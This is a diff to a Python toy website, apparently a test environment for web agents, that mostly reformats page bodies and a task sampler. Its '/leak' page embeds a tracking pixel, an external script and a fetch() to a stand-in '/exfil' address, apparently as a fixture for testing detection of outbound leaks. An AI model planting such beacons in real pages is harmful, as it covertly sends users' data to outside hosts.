@@ -40,27 +40,37 @@ class ToySite:
                     return Response(status=303, headers={"Location": "/"})(environ, start_response)
                 n = conn.execute("SELECT n FROM counter").fetchone()[0]
             if request.path == "/":
-                body = (f"<p>Counter: {n}</p><form method=post action=/add>"
-                        "<button>Add one</button></form><button hidden>Hidden</button>")
+                body = (
+                    f"<p>Counter: {n}</p><form method=post action=/add>"
+                    "<button>Add one</button></form><button hidden>Hidden</button>"
+                )
                 title = "Home"
             elif request.path == "/form":
-                body = ("<label for=q>Query</label><input id=q name=q>"
-                        "<label for=c>Colour</label><select id=c><option>red</option>"
-                        "<option>green</option></select>"
-                        "<p id=out></p><button onclick=\"document.getElementById('out')"
-                        ".textContent = 'You typed ' + document.getElementById('q').value"
-                        " + ' in ' + document.getElementById('c').value\">Show</button>"
-                        "<button onclick=\"alert('hi')\">Alert</button>")
+                body = (
+                    "<label for=q>Query</label><input id=q name=q>"
+                    "<label for=c>Colour</label><select id=c><option>red</option>"
+                    "<option>green</option></select>"
+                    "<p id=out></p><button onclick=\"document.getElementById('out')"
+                    ".textContent = 'You typed ' + document.getElementById('q').value"
+                    " + ' in ' + document.getElementById('c').value\">Show</button>"
+                    "<button onclick=\"alert('hi')\">Alert</button>"
+                    '<a href="#bottom">Jump</a> <a href="http://example.com/">Away</a>'
+                    '<a href="/" target="_blank">New tab</a><p id=bottom>bottom</p>'
+                )
                 title = "Form"
             elif request.path == "/clicker":
-                body = ("<p id=n>0</p><button onclick=\"const p = document.getElementById('n');"
-                        " p.textContent = +p.textContent + 1\">Click me</button>")
+                body = (
+                    "<p id=n>0</p><button onclick=\"const p = document.getElementById('n');"
+                    ' p.textContent = +p.textContent + 1">Click me</button>'
+                )
                 title = "Clicker"
             elif request.path == "/leak":
-                body = ('<img src="http://192.0.2.1/pixel.png" alt="pixel">'
-                        '<script src="https://example.com/x.js"></script>'
-                        "<script>fetch('http://198.51.100.7/exfil?d=1').catch(() => {})</script>"
-                        "<p>leak page</p>")
+                body = (
+                    '<img src="http://192.0.2.1/pixel.png" alt="pixel">'
+                    '<script src="https://example.com/x.js"></script>'
+                    "<script>fetch('http://198.51.100.7/exfil?d=1').catch(() => {})</script>"
+                    "<p>leak page</p>"
+                )
                 title = "Leak"
             else:
                 return Response("not found", status=404)(environ, start_response)
@@ -69,14 +79,19 @@ class ToySite:
 
         return app
 
-    def sample_task(self, rng: np.random.Generator, conn: sqlite3.Connection,
-                    template: str | None = None) -> Task:
+    def sample_task(
+        self, rng: np.random.Generator, conn: sqlite3.Connection, template: str | None = None
+    ) -> Task:
         template = template or self.templates[int(rng.integers(len(self.templates)))]
         target = int(rng.integers(1, 4))
         if template == "count":
             plan = (*[Step.click("button", "Add one")] * target, Step.answer(str(target)))
-            return Task("count", f"Press 'Add one' until the counter shows {target}, then "
-                        f"answer {target}.", {"target": target}, plan)
+            return Task(
+                "count",
+                f"Press 'Add one' until the counter shows {target}, then answer {target}.",
+                {"target": target},
+                plan,
+            )
         return Task("say", f"Answer {target}.", {"target": target}, (Step.answer(str(target)),))
 
     def finished(self, task: Task, conn: sqlite3.Connection) -> bool:
